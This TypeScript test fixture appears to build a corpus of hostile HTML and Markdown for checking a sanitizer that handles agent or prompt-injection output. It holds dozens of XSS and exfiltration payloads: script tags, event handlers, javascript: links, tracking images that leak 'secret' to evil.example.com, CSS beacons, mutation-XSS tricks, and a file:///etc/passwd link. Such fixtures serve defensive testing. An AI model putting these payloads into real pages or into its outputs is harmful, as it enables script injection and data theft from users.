/** Where a page that was tricked would send its requests, or what its title would become. */
export const EVIL_HOST = 'evil.example.com';
export const EVIL_TITLE = 'hacked';

const EVIL = `https://${EVIL_HOST}`;
const RUN = `document.title='${EVIL_TITLE}';fetch('${EVIL}/run')`;
const SPACELESS = RUN.replaceAll(' ', '%20');
const SVG = Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${RUN}"/>`).toString(
  'base64',
);

/** What a prompt injection, or whoever writes an agent, might try, by its kind. */
export const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  script: [
    `<script>${RUN}</script>`,
    `<script src="${EVIL}/script.js"></script>`,
    `<ScRiPt >${RUN}</sCrIpT >`,
    `<svg><script>${RUN}</script></svg>`,
    `<script type="module">import '${EVIL}/module.js'</script>`,
    `<script type="importmap">{"imports":{"a":"${EVIL}/map.js"}}</script>`,
  ],
  'event handler': [
    `<img src="x" onerror="${RUN}">`,
    `<img src=x onerror=${RUN}//`,
    `<svg onload="${RUN}"><image href="${EVIL}/svg.png"/></svg>`,
    `<details open ontoggle="${RUN}"><summary>More</summary>x</details>`,
    `<body onload="${RUN}">`,
    `<marquee onstart="${RUN}">x</marquee>`,
    `<div onanimationstart="${RUN}" style="animation:x 1s">x</div>`,
    `<p onpointerenter="${RUN}" oncontentvisibilityautostatechange="${RUN}" style="content-visibility:auto">x</p>`,
    `<video onloadstart="${RUN}"><source onerror="${RUN}"></video>`,
    `<input autofocus onfocus="${RUN}">`,
    `<xss tabindex=1 autofocus onfocus="${RUN}">x</xss>`,
  ],
  'script link': [
    `<a id="main" name="main" href="javascript:${RUN}">raw link</a>`,
    `[script link](javascript:${SPACELESS})`,
    `[data link](data:text/html,<script>${SPACELESS}</script>)`,
    '[spaced link](<java\nscript:alert(1)>)',
    '[vb](vbscript:x)',
    `[mixed](JaVaScRiPt:${SPACELESS})`,
    `<a href="java&#x09;script:${RUN}">entity</a>`,
    `<a href="&#106;avascript:${RUN}">number</a>`,
    `<a href=" javascript:${RUN}">blank</a>`,
    `<javascript:${SPACELESS}>`,
    `[by reference][evil-link]\n\n[evil-link]: javascript:${SPACELESS}`,
    `<a href="//${EVIL_HOST}/relative">relative to the scheme</a>`,
    `<a href="https://good.example.com/pinged" ping="${EVIL}/ping">pings</a>`,
    `<svg><a xlink:href="javascript:${RUN}"><text>svg link</text></a></svg>`,
    `<map name="m"><area href="javascript:${RUN}" shape="default"></map>`,
    '[blob](blob:https://x/y)',
    '[file](file:///etc/passwd)',
  ],
  'image that tells': [
    `<img src="${EVIL}/pixel.png?secret=1">`,
    `![exfiltrate](${EVIL}/leak.png?q=secret)`,
    '![relative](/api/v1/me)',
    `[![linked](${EVIL}/linked.png)](https://good.example.com/image)`,
    `![by reference][evil-image]\n\n[evil-image]: ${EVIL}/reference.png`,
    `<img srcset="${EVIL}/img-set.png 1x, ${EVIL}/img-set2.png 2x">`,
    `<picture><source srcset="${EVIL}/set.png"><img srcset="${EVIL}/img-set.png"></picture>`,
    `<img src="data:image/png;base64,AA==" srcset="${EVIL}/both.png" lowsrc="${EVIL}/low.png" longdesc="${EVIL}/long">`,
    `<img src="//${EVIL_HOST}/scheme.png">`,
    `<img src="\\\\${EVIL_HOST}\\unc.png">`,
    `<input type="image" src="${EVIL}/input.png">`,
  ],
  'vector image': [
    '![vector](data:image/svg+xml,%3Csvg/onload=alert(1)%3E)',
    `<img src="data:image/svg+xml;base64,${SVG}">`,
    `<svg><use href="data:image/svg+xml;base64,${SVG}#x"></use></svg>`,
    `<svg><animate href="#main" attributeName="href" values="javascript:${RUN}"/></svg>`,
    `<svg><foreignObject><iframe src="${EVIL}/foreign"></iframe></foreignObject></svg>`,
    `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  ],
  frame: [
    `<iframe src="${EVIL}/frame"></iframe>`,
    `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
    `<iframe src="javascript:parent.${RUN}"></iframe>`,
    `<object data="${EVIL}/object"></object><embed src="${EVIL}/embed">`,
    `<frameset><frame src="${EVIL}/frameset"></frameset>`,
    `<portal src="${EVIL}/portal"></portal><applet code="x" codebase="${EVIL}/"></applet>`,
  ],
  style: [
    `<style>body{background:url(${EVIL}/css.png)}</style>`,
    `<style>@import '${EVIL}/import.css';</style>`,
    `<link rel="stylesheet" href="${EVIL}/style.css">`,
    `<link rel="preload" as="image" href="${EVIL}/preload.png"><link rel="dns-prefetch" href="${EVIL}">`,
    `<div style="background:url(${EVIL}/inline.png);position:fixed;inset:0">styled</div>`,
    `<table background="${EVIL}/table.png"><tr><td background="${EVIL}/td.png">cell</td></tr></table>`,
    `<p class="code" id="app" style="--x:url(${EVIL}/var.png)">classed</p>`,
    `<font color="red" face="${EVIL}">x</font>`,
  ],
  form: [
    `<form action="${EVIL}/form"><input name="password" autofocus onfocus="${RUN}"><button>Go</button></form>`,
    `<form id="f" action="${EVIL}/f"></form><button form="f" formaction="javascript:${RUN}">press</button>`,
    '<select><option>x</option></select><textarea>x</textarea>',
  ],
  'page of its own': [
    `<meta http-equiv="refresh" content="0;url=${EVIL}/">`,
    `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
    `<base href="${EVIL}/">`,
    `<title>${EVIL_TITLE}</title>`,
    '<img name="body"><img name="cookie"><a id="location" name="location">clobbers</a>',
    `<!--><img src=x onerror="${RUN}">-->`,
    `<?xml version="1.0"?><?php echo 1 ?>`,
  ],
  media: [
    `<video src="${EVIL}/video" poster="${EVIL}/poster.png" autoplay></video>`,
    `<audio src="${EVIL}/audio" autoplay></audio>`,
    `<video><track src="${EVIL}/track" default></video>`,
  ],
  mutation: [
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
    `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
    `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
    `<template><img src=x onerror="${RUN}"></template>`,
    `<svg><title><style><img src=x onerror="${RUN}"></style></title></svg>`,
    `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${RUN}"></style></annotation-xml></math>`,
    `<select><style></select><img src=x onerror="${RUN}"></style>`,
    '<div>'.repeat(300) + `<img src=x onerror="${RUN}">`,
  ],
  'Markdown itself': [
    `\`<img src=x onerror="${RUN}">\``,
    `\`\`\`html\n<script>${RUN}</script>\n\`\`\``,
    `\`\`\`"><img src=x onerror="${RUN}">\ncode\n\`\`\``,
    `| a |\n| --- |\n| <img src=x onerror="${RUN}"> |`,
    `[a](https://good.example.com/ "title\\" onmouseover=\\"${SPACELESS}")`,
    `![a"onerror="${SPACELESS}](x)`,
    `https://good.example.com/"onmouseover="${SPACELESS}`,
    `[link <img src=x onerror="${RUN}">](https://good.example.com/)`,
  ],
};

/** How many there are of each kind. */
export const PAYLOAD_COUNTS = Object.entries(PAYLOADS).map(([kind, all]) => [kind, all.length] as const);

/** All of them in one text, between words that must be shown. Each in a block of its own, with what it may have left open closed. */
export const HOSTILE_MARKDOWN = [
  'Before.',
  ...Object.values(PAYLOADS).flatMap((all) =>
    all.flatMap((payload) => [payload, '</style></svg></math></select></template></div>']),
  ),
  '[good link](https://good.example.com/page)',
  'After.',
].join('\n\n');

/** All of them as lines. */
export const HOSTILE_LINES: readonly string[] = Object.values(PAYLOADS).flat();
